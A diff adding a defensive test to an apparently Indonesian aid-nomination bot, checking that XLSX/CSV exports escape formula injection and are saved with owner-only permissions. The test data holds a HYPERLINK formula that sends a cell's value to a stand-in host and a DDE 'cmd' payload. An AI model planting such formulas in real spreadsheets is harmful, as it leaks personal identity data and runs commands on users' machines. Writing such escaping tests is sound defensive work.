@@ -73,3 +73,56 @@ async def test_item1_a_removed_admin_who_joined_a_kelurahan_stays_its_reviewer(s
     async with siaga.store() as store:
         p = await store.person_by_id(boss.id)
     assert p is not None and p.role.value == "lurah" and p.kelurahan_code == KELUN
+
+
+# --- item 2: exports carry no live formula, and only their owner reads them ----------------
+
+EVIL = '=HYPERLINK("http://x/?d="&C2,"klik")'
+
+
+async def _approved(siaga, name: str, occupation_text: str, serial: int = 1) -> None:  # type: ignore[no-untyped-def]
+    from domain.nomination import NominationStatus
+    from tests.helpers import nik_for
+
+    async with siaga.store() as store:
+        now = siaga.clock()
+        n = await store.add_nomination(
+            ref=f"PJK-T{serial:04d}", person_id=None, filed_by=None,
+            kelurahan_code="35.77.01.1009", name=name, nik=nik_for(40, serial=serial),
+            nik_masked="3577 01•• •••• 0001", answers={"occupation_text": occupation_text,
+            "phone": "+6281234567890"}, verdict="likely_eligible", reasons=[], priority=0, now=now,
+        )  # fmt: skip
+        await store.update_nomination(n, now, status=NominationStatus.APPROVED, decided_at=now)
+        await store.commit()
+
+
+async def test_item2_exports_write_typed_text_as_text_and_are_private(siaga, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    import csv
+
+    from openpyxl import load_workbook
+
+    from bot.export import export
+
+    await _approved(siaga, "@SUM(1+1)*cmd|' /C calc'!A0", EVIL)
+    await _approved(siaga, "-2+3", "\tnarik", serial=2)
+    xlsx, csv_path = tmp_path / "out.xlsx", tmp_path / "out.csv"
+    csv_path.write_text("old")
+    csv_path.chmod(0o644)  # an earlier export left readable: the new one is not
+    async with siaga.store() as store:
+        assert await export(store, siaga.program, xlsx, "xlsx", None, "uji", siaga.clock()) == 2
+    async with siaga.store() as store:
+        await export(store, siaga.program, csv_path, "csv", None, "uji", siaga.clock())
+    assert xlsx.stat().st_mode & 0o777 == 0o600
+    assert csv_path.stat().st_mode & 0o777 == 0o600
+    ws = load_workbook(xlsx).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
+    values = {c.value for c in cells}
+    assert EVIL in values and "-2+3" in values  # kept as the person typed it
+    nik = next(c for c in cells if c.column_letter == "C")
+    assert nik.data_type == "s" and len(str(nik.value)) == 16
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
+    assert rows[0]["pekerjaan"] == "'" + EVIL and rows[0]["nama"].startswith("'@")
+    assert rows[1]["nama"] == "'-2+3" and rows[1]["pekerjaan"] == "'\tnarik"
+    assert rows[0]["no_hp"] == "'+6281234567890"
+    assert not list(tmp_path.glob(".*.part"))
